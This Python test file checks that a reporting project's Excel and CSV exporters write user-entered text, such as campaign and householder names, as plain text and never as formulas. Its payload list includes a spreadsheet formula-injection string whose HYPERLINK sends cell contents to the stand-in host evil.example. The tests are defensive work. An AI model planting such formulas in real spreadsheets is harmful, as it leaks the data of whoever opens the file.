"""No workbook the project writes can start a formula from text a user typed: a campaign name, a
householder's name or a note beginning with ``=`` comes out as that text in the monthly report and
quarterly bulletin (one renderer), the campaign summary, the asset-check list and the national export
(its CSV too). Each writer's output is opened with openpyxl and every cell is checked."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from dixian.contract.events import CHINA_TZ
from reports.model import Report, Table
from reports.national import NationalExport, write_national
from reports.render import workbook_bytes
from screening.campaigns import create_campaign, summary_xlsx
from screening.exports import ASSET_COLUMNS, asset_check_xlsx
from tests.screening_helpers import CITY, Clock, china, household, open_test_store

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "=1+2", "@SUM(A1:A2)", "+1-1", "-2+3"]


def _cells(xlsx: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(xlsx))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _no_formula_and_all_text(xlsx: bytes, expected: list[str]) -> None:
    cells = _cells(xlsx)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for p in expected:
        assert any(p in t for t in texts), p  # kept, character for character, as text


def test_the_report_renderer_writes_user_text_as_text() -> None:
    table = Table(
        "集中排查", "集中排查", [("name", "排查名称"), ("n", "户数")], [{"name": p, "n": 1} for p in PAYLOADS]
    )
    report = Report("月报", "2022-06", "桂林市", True, "2022-06-30", [("线索", 1, 0)], [table])
    _no_formula_and_all_text(workbook_bytes(report, datetime(2022, 7, 1, tzinfo=CHINA_TZ)), PAYLOADS)


def test_the_campaign_summary_writes_its_name_as_text(tmp_path: Path) -> None:
    store = open_test_store(f"sqlite:///{tmp_path / 's.sqlite'}", Clock(china(2022, 9, 1)))
    try:
        store.ledger.upsert([household(1)])
        name = PAYLOADS[0]
        c = create_campaign(store, CITY, name, ["4503"], date(2022, 9, 1), date(2022, 9, 30), ["ordinary"])
        _no_formula_and_all_text(summary_xlsx(store, CITY, c.campaign_id), [name])
    finally:
        store.db.close()


def test_the_asset_check_list_writes_names_as_text() -> None:
    rows = [
        {k: (PAYLOADS[i % len(PAYLOADS)] if k != "state" else "proposed") for k, _ in ASSET_COLUMNS}
        for i in range(5)
    ]
    _no_formula_and_all_text(asset_check_xlsx("450321", rows), PAYLOADS)


def test_the_national_export_writes_names_as_text_in_the_workbook_and_the_csv(tmp_path: Path) -> None:
    from reports.national import COLUMNS  # noqa: PLC0415

    rows = [{k: PAYLOADS[i % len(PAYLOADS)] for k, _ in COLUMNS} for i in range(len(PAYLOADS))]
    xlsx, csv_path = write_national(NationalExport("2022-07", None, rows), tmp_path)
    _no_formula_and_all_text(xlsx.read_bytes(), PAYLOADS)
    values = [v for row in csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))) for v in row]
    assert not [v for v in values if v[:1] in "=+-@"]
    for p in PAYLOADS:
        assert "'" + p in values


@pytest.mark.parametrize("payload", PAYLOADS)
def test_openpyxl_alone_would_have_written_a_formula(payload: str) -> None:
    """The check above can fail: without the project's writer openpyxl stores '=…' as a formula."""
    from openpyxl import Workbook  # noqa: PLC0415

    wb = Workbook()
    wb.active.append([payload])
    buf = io.BytesIO()
    wb.save(buf)
    kinds = {c.data_type for c in _cells(buf.getvalue())}
    assert kinds == ({"f"} if payload.startswith("=") else {"s"})
